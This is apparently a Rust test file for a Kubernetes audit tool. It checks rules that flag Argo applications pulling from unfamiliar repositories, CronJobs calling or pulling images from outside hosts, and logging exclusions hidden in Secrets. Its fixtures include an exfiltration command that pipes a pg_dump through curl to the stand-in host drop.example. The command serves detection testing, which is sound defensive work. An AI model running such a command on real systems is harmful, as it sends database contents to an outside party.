//! Hosts that nothing else of a cluster names.

use super::*;

/// Whether a rule finds something among these objects, each with its key below the prefix and its manager.
fn finds(rule: &str, objects: &[(&str, &str)]) -> bool {
    let changes: Vec<(String, String)> = objects
        .iter()
        .map(|(key, object)| (format!("/registry/{key}"), (*object).to_owned()))
        .collect();
    let changes: Vec<Change<'_>> = changes
        .iter()
        .zip(2..)
        .map(|((key, object), at)| (key.as_str(), at, Some(object.as_str())))
        .collect();
    let file = history(&changes, None);
    let plain = judged(&file, None);
    for redactor in redactors() {
        assert_eq!(judged(&file, Some(redactor)).0, plain.0);
    }
    plain.0.iter().any(|found| found.0 == rule)
}

fn application(name: &str, url: &str) -> String {
    format!(
        r#"{{"apiVersion":"argoproj.io/v1alpha1","kind":"Application","metadata":{{"name":"{name}","namespace":"d"}},
        "spec":{{"source":{{"repoURL":"{url}"}}}}}}"#
    )
}

#[test]
fn a_source_from_elsewhere_is_found_where_others_share_one() {
    let found = |first: &str, second: &str, third: &str| {
        let (a, b, c) = (
            application("a", first),
            application("b", second),
            application("c", third),
        );
        finds(
            "source-elsewhere",
            &[
                ("argoproj.io/applications/d/a", &a),
                ("argoproj.io/applications/d/b", &b),
                ("argoproj.io/applications/d/c", &c),
            ],
        )
    };
    let own = "https://git.a.example/team/deploy.git";
    assert!(found(own, own, "https://github.com/eve/addons.git"));
    assert!(found(
        own,
        "git@www.a.example:other/x.git",
        "https://drop.example/x"
    ));
    // One of the places that the others have.
    assert!(!found(own, own, "https://charts.a.example/x"));
    // No two share a place, so that none is a habit.
    assert!(!found(own, "https://b.example/x", "https://c.example/x"));
    // What many rent is known by its owner.
    let forge = "https://github.com/corp/a";
    assert!(found(
        forge,
        "https://github.com/corp/b",
        "https://github.com/eve/c"
    ));
    assert!(!found(
        forge,
        "https://github.com/corp/b",
        "git@github.com:corp/c.git"
    ));
}

fn workload(name: &str, manager: &str, image: &str, command: &str) -> String {
    format!(
        r#"{{"apiVersion":"batch/v1","kind":"CronJob","metadata":{{"name":"{name}","namespace":"d",
        "managedFields":[{{"apiVersion":"v1","manager":"{manager}","operation":"Update","time":"2026-01-01T00:00:00Z"}}]}},
        "spec":{{"jobTemplate":{{"spec":{{"template":{{"spec":{{"containers":[{{"name":"c","image":"{image}",
        "command":["sh","-c","{command}"]}}]}}}}}}}}}}}}"#
    )
}

#[test]
fn what_a_workload_names_alone_is_found() {
    let own = "registry.a.example/x:1";
    let found = |rule: &str, manager: &str, image: &str, command: &str| {
        let (a, b) = (
            workload("a", "helm", own, "a"),
            workload("b", "helm", own, "b"),
        );
        let c = workload("c", manager, image, command);
        finds(
            rule,
            &[
                ("cronjobs/d/a", &a),
                ("cronjobs/d/b", &b),
                ("cronjobs/d/c", &c),
            ],
        )
    };
    let dump = "dump-sent-elsewhere";
    let send = |host: &str| format!("pg_dump shop | gzip | curl -sT - https://{host}/c.gz");
    assert!(found(dump, "helm", own, &send("drop.example")));
    assert!(!found(dump, "helm", own, &send("backup.a.example")));
    assert!(!found(dump, "helm", own, &send("minio.backup.svc")));
    assert!(!found(dump, "helm", own, "curl -s https://drop.example/x"));
    let calls = "workload-calls-elsewhere";
    assert!(found(
        calls,
        "kubectl-create",
        own,
        "curl -s https://drop.example/x"
    ));
    assert!(!found(calls, "helm", own, "curl -s https://drop.example/x"));
    let image = "image-from-elsewhere";
    assert!(found(image, "kubectl-create", "drop.example/x:1", "a"));
    assert!(!found(image, "helm", "drop.example/x:1", "a"));
    assert!(!found(image, "kubectl-create", "www.a.example/x:1", "a"));
}

/// A Secret's values are encoded, and settings of collectors lie in them as well.
#[test]
fn lines_of_a_secret_are_looked_at_and_not_shown() {
    let secret = |text: &str| {
        let mut data = String::new();
        base64::Engine::encode_string(&base64::engine::general_purpose::STANDARD, text, &mut data);
        format!(
            r#"{{"apiVersion":"v1","kind":"Secret","metadata":{{"name":"s","namespace":"d"}},"data":{{"a.yaml":"{data}"}}}}"#
        )
    };
    let (old, new) = (secret("a: b\n"), secret("a: b\nexclude_files: ['x']\n"));
    let key = "/registry/secrets/d/s";
    let changes = [(key, 2, Some(old.as_str())), (key, 3, Some(new.as_str()))];
    let (found, words, _) = judged(&history(&changes, None), None);
    assert!(found.iter().any(|found| found.0 == "logs-left-out"));
    assert!(words.iter().all(|word| !word.contains("exclude_files")));
}
